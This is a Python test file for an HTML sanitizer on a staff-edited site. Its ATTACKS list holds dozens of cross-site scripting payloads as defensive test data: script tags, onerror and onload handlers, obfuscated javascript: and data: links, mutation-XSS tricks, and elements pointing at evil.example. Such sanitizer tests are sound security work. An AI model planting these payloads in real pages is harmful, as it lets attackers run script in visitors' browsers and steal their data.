"""Whatever staff paste, nothing that runs reaches a page; and what they may write stays."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html
from markupsafe import escape

from app.rules.cleaning import (
    ATTRIBUTES,
    SCHEMES,
    TAGS,
    Cleaned,
    cleaned,
    drops_something,
    parts,
    shown,
)

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/x?<h2> onmouseover=alert(1)'>x</a>",
    "<a href='/x\"onmouseover=alert(1)'>x</a>",
    "<a href='https://ok.example' target=_top rel=opener onfocus=alert(1) autofocus>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'><style>*{display:none}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<table><tr><td colspan=99999 onclick=x>1</td></tr></table>",
    "<h2 id=main class=skip>x</h2>",
    "{{ 7*7 }}<p>{% raw %}</p>",
    "<<script>alert(1)//<</script>",
    "<p>x</p\x00 onclick=alert(1)>",
)


def harmless(text: str) -> None:
    """Only the allowed tags, attributes and kinds of addresses, as a browser would read it."""
    page = html.fragment_fromstring(text, create_parent="main")
    for element in page.iterdescendants():
        assert isinstance(element.tag, str), element  # no comments, no instructions
        if element.get("class") == "scrolled":  # around a table, when it is shown
            assert (element.tag, element[0].tag, element.get("tabindex")) == ("div", "table", "0")
            continue
        assert element.tag in TAGS, element.tag
        allowed = ATTRIBUTES.get(element.tag, set()) | {"rel", "id"}
        assert set(element.attrib) <= allowed, element.attrib
        assert element.get("rel", "noopener") == "noopener"
        assert element.get("id", "part-").startswith("part-")
        address = element.get("href")
        if address is not None and address[:1] not in ("/", "#"):
            assert address.partition(":")[0].lower() in SCHEMES
        assert not (address or "").startswith(("//", "/\\"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_is_left(attack: str) -> None:
    for text in (
        attack,
        f"<p>до {attack} после</p>",
        f"<h2>{attack}",
        f"<a href='/x'>{attack}</a>",
    ):
        harmless(cleaned(text))
        harmless(shown(text, own_host="talon.example", elsewhere="другой сайт", table="Таблица"))


fragments = st.sampled_from(
    [*ATTACKS, "<", ">", "</", "<p", "<a href=", "'", '"', "&", "&lt;", "&#60;", "=", " ", "/>", "<h2>", "</h2>",
     "<table>", "<td>", "<svg>", "<math>", "<style>", "<title>", "<!--", "-->", "https://x.example", "j&#x41;"]
)  # fmt: skip


@given(st.lists(st.one_of(fragments, st.text(max_size=8)), max_size=12).map("".join))
def test_no_mixture_gets_through_nor_when_cleaned_again(text: str) -> None:
    once = cleaned(text)
    harmless(once)
    harmless(shown(text, own_host="talon.example", elsewhere="<b>", table='"<b>'))
    harmless(cleaned(once))  # as when it is shown: a browser may read odd nesting in another way


def test_what_may_be_written_stays() -> None:
    text = (
        "<h2>Часы</h2><p>С <strong>8</strong> до <em>20</em>,<br>без выходных</p><ul><li>раз</li></ul>"
        '<table><thead><tr><th scope="col">А</th></tr></thead>'
        '<tbody><tr><td colspan="2">Б</td></tr></tbody></table>'
    )
    assert cleaned(text) == text
    assert not drops_something(text)
    assert drops_something("<p>x <u>y</u></p>")
    assert cleaned("<p>x <u>y</u></p>") == "<p>x y</p>"


@pytest.mark.parametrize(
    "address",
    ["https://x.example/a?b=1&amp;c=2", "http://x.example", "mailto:a@b.example", "tel:+74950000000", "/FAQ", "#part-1"],
)  # fmt: skip
def test_links_of_known_kinds_stay_and_open_no_way_back(address: str) -> None:
    assert cleaned(f'<a href="{address}">x</a>') == f'<a href="{address}" rel="noopener">x</a>'


def test_a_link_to_another_site_says_so_and_one_to_this_site_does_not() -> None:
    text = '<a href="https://x.example/a">Минздрав</a>, <a href="/FAQ">ответы</a>, <a href="https://talon.example/">мы</a>, <a href="tel:103">103</a>'
    page = html.fromstring(
        shown(text, own_host="talon.example", elsewhere="другой сайт", table="Таблица")
    )
    assert [link.text_content() for link in page.iter("a")] == [
        "Минздрав (другой сайт: x.example)",
        "ответы",
        "мы",
        "103",
    ]


def test_plain_text_becomes_paragraphs_and_keeps_its_signs() -> None:
    assert (
        cleaned("Раз < два\r\n\r\nтри & четыре") == "<p>Раз &lt; два</p>\n<p>три &amp; четыре</p>"
    )
    assert cleaned(" \n ") == ""


def test_headings_can_be_linked_to() -> None:
    text = "<h2>Раз &amp; <em>два</em></h2><p>x</p><h3>Три</h3>"
    assert [(part.level, part.words) for part in parts(text)] == [(2, "Раз & два"), (3, "Три")]
    for part in parts(text):
        assert f'id="{part.anchor}"' in shown(text, own_host="", elsewhere="", table="")


def test_deep_nesting_ends() -> None:
    assert len(cleaned("<div>" * 30_000 + "x")) < 10
    harmless(cleaned("<ul><li>" * 2_000 + "x"))


def test_only_cleaned_text_is_printed_unescaped() -> None:
    made = cleaned("<p>x</p>")
    assert str(escape(made)) == "<p>x</p>"
    assert str(escape(made + "<script>")) == "&lt;p&gt;x&lt;/p&gt;&lt;script&gt;"
    assert str(escape(made[:3])) == "&lt;p&gt;"
    assert str(escape("<p>x</p>")) == "&lt;p&gt;x&lt;/p&gt;"
    assert isinstance(made, Cleaned)


def test_nobody_else_makes_cleaned_text() -> None:
    makers = {
        path.relative_to(ROOT).as_posix()
        for folder in ("app", "admin", "forms")
        for path in (ROOT / folder).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "Cleaned"
    }
    assert makers == {"app/rules/cleaning.py"}
